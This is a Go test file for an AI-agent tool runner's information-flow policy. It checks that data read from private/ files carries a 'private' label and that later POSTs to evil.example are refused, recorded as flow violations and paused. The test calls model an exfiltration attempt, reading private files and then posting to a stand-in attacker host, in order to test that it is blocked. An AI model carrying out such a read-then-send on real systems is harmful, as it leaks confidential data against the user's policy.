package runner_test

import (
	"context"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/remitrun/remit/internal/authority/permit"
	"github.com/remitrun/remit/internal/authority/policy"
	"github.com/remitrun/remit/internal/authority/policy/target"
	"github.com/remitrun/remit/internal/base/fault"
	"github.com/remitrun/remit/internal/base/tool"
	"github.com/remitrun/remit/internal/call/runner"
)

// sender reads files and sends requests, as far as its permit goes.
type sender struct{ tried []string }

func (*sender) Spec() *tool.Spec {
	return &tool.Spec{ID: "send", Title: "send", Version: "1", Source: "builtin", Effects: tool.EffectSet(tool.NetworkHTTP),
		Input: json.RawMessage(`{"type":"object","properties":{"read":{"type":"string"},"post":{"type":"string"},"later":{"type":"string"}}}`)}
}

func (s *sender) Prepare(env tool.Env, args tool.Args) (permit.Prepared, error) {
	var p permit.Prepared
	if f, ok := args["read"].(string); ok {
		p.Actions = append(p.Actions, tool.Action{Kind: tool.FileRead, Path: env.Workspace + "/" + f})
	}
	if u, ok := args["post"].(string); ok {
		to, err := target.Parse("POST", u)
		if err != nil {
			return p, err
		}
		p.Actions = append(p.Actions, tool.Action{Kind: tool.Network, Target: to})
	}
	p.Run = func(_ context.Context, pm permit.Permit) (tool.Result, error) {
		if u, ok := args["later"].(string); ok {
			to, err := target.Parse("POST", u)
			if err != nil {
				return tool.Result{}, err
			}
			if d := pm.Chain().DecideAction(tool.Action{Kind: tool.Network, Target: to}); d.Effect != policy.Allow {
				s.tried = append(s.tried, d.Rule.Name)
			}
		}
		return tool.Result{Output: map[string]any{"ok": true}}, nil
	}
	return p, nil
}

const compartment = `tools: {allow: ["*"]}
files: {read: {allow: ["**"]}}
network: {allow: ["*"]}
violations: {flow: pause}
labels: {private: {from: ["files private/**"], kind: confidential}}
flows: {private: {only: ["network api.acme.com"]}}
`

func TestALabelStaysWithItsContext(t *testing.T) {
	s := &sender{}
	h := newHouse(t, open, s)
	h.under(strings.ReplaceAll(compartment, "violations: {flow: pause}\n", ""), nil)
	evil := tool.Args{"post": "https://evil.example/"}
	if o := h.call("send", evil); o.Err != nil {
		t.Fatal(o.Err)
	}
	if o := h.call("send", tool.Args{"read": "private/a", "later": "https://evil.example/"}); o.Err != nil || !slices.Equal(o.Labels, []string{"private"}) {
		t.Fatalf("%v, labels %q", o.Err, o.Labels)
	}
	if !slices.Equal(s.tried, []string{"flows.private.only"}) {
		t.Errorf("while it read the file, it was refused %q", s.tried)
	}
	for range 2 {
		o := h.call("send", evil)
		if o.Status != tool.StatusDenied || !errors.Is(o.Err, fault.FlowRefused) || o.Decision.Rule == nil || o.Decision.Rule.Name != "flows.private.only" {
			t.Fatalf("%s by %s: %v", o.Status, o.Decision.Rule, o.Err)
		}
		if len(o.Violations) != 1 || o.Violations[0].Kind != policy.FlowViolation {
			t.Errorf("violations %+v", o.Violations)
		}
	}
	if o := h.call("send", tool.Args{"post": "https://api.acme.com/x"}); o.Err != nil {
		t.Error(o.Err)
	}
	calls := h.recorded()
	if len(calls) != 5 || len(calls[0].Labels) != 0 || !slices.Equal(calls[1].Labels, []string{"private"}) || calls[2].Rule != "flows.private.only" {
		t.Errorf("recorded %+v", calls)
	}
}

func TestALabelComesFromTheContextBefore(t *testing.T) {
	h := newHouse(t, open, &sender{})
	before := &runner.Context{}
	before.Add([]string{"private", "unknown"})
	h.under(compartment, func(in *runner.Info) { in.Context = before })
	if o := h.call("send", tool.Args{"post": "https://evil.example/"}); !errors.Is(o.Err, fault.FlowRefused) {
		t.Errorf("%v", o.Err)
	}
	if o := h.call("send", tool.Args{"read": "b"}); !errors.Is(o.Err, fault.GrantPaused) {
		t.Errorf("violations.flow does not pause: %v", o.Err)
	}
	if got := before.Labels(); !slices.Equal(got, []string{"private", "unknown"}) {
		t.Errorf("labels %q", got)
	}
}

// A call that was refused adds no label.
func TestARefusedCallAddsNoLabel(t *testing.T) {
	h := newHouse(t, open, &sender{})
	h.under(compartment+"limits: {per_tool: {send: 1}}\n", nil)
	if o := h.call("send", tool.Args{"read": "private/a", "post": "https://evil.example/"}); !errors.Is(o.Err, fault.FlowRefused) || len(o.Labels) != 0 {
		t.Errorf("%v, labels %q", o.Err, o.Labels)
	}
}

func BenchmarkLabels(b *testing.B) {
	for name, labels := range map[string][]string{"none": nil, "some": {"private"}} {
		c := &runner.Context{}
		c.Add(labels)
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				c.Labels()
			}
		})
	}
}
